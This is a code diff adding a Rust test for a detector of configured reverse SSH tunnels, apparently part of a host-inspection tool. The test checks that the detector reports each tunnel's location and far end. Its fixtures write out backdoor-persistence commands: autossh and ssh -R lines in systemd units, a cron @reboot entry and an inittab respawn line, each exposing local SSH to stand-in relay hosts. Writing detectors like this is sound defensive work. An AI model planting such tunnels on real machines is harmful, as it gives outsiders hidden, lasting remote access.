@@ -7,6 +7,7 @@ use crate::access::{Machine, RecordedHost};
 use crate::collect::golden;
 use daicho_schemas::batch::Outcome;
 use daicho_schemas::trouble::TroubleKind;
+use std::collections::BTreeMap;
 
 fn branch() -> RecordedHost {
     golden::running(&ConfiguredTunnelsCollector, "branch", Machine::default())
@@ -44,6 +45,39 @@ fn far_ends_and_starts_are_read_of_every_sort() {
     assert_eq!(of("back-door.service"), one("relay.example", Starts::Automatically));
     assert_eq!(of("permitlisten localhost:8022"), (Vec::new(), Starts::ByHand));
     assert!(!seen.contains_key("office lan"), "a wired connection is no way in");
+}
+
+/// A maintainer's package opens the way, a part changes where to, and Red Hat's tables of cron lie elsewhere than Debian's.
+#[test]
+fn reverse_ssh_is_seen_in_units_of_packages_and_in_every_table() {
+    let folder = tempfile::tempdir().unwrap();
+    let put = |path: &str, text: &str| {
+        let path = folder.path().join(path);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    };
+    put(
+        "usr/lib/systemd/system/care.service",
+        "[Service]\nExecStart=/usr/bin/autossh -M 0 -N -R 2222:localhost:22 a@old.example\n",
+    );
+    put(
+        "etc/systemd/system/care.service.d/x.conf",
+        "[Service]\nExecStart=\nExecStart=/usr/bin/ssh -NR 2222:localhost:22 a@new.example\n",
+    );
+    put("var/spool/cron/someone", "@reboot ssh -fNR 2222:localhost:22 b@relay.example\n");
+    put("etc/inittab", "s1:345:respawn:/usr/bin/ssh -NR 2222:localhost:22 c@init.example\n");
+    let collected = ConfiguredTunnelsCollector.collect(&RecordedHost::image(folder.path()));
+    let seen = collected.items.into_iter().map(|item| match item {
+        Observation::ConfiguredTunnel(one) => (one.place, one.remotes.join(" ")),
+        other => panic!("{}", other.kind()),
+    });
+    let wanted = [
+        ("/etc/inittab", "init.example"),
+        ("/usr/lib/systemd/system/care.service", "new.example"),
+        ("/var/spool/cron/*", "relay.example"),
+    ];
+    let wanted = wanted.map(|(place, end)| (place.to_owned(), end.to_owned()));
+    assert_eq!(seen.collect::<BTreeMap<_, _>>(), BTreeMap::from(wanted));
 }
 
 #[test]
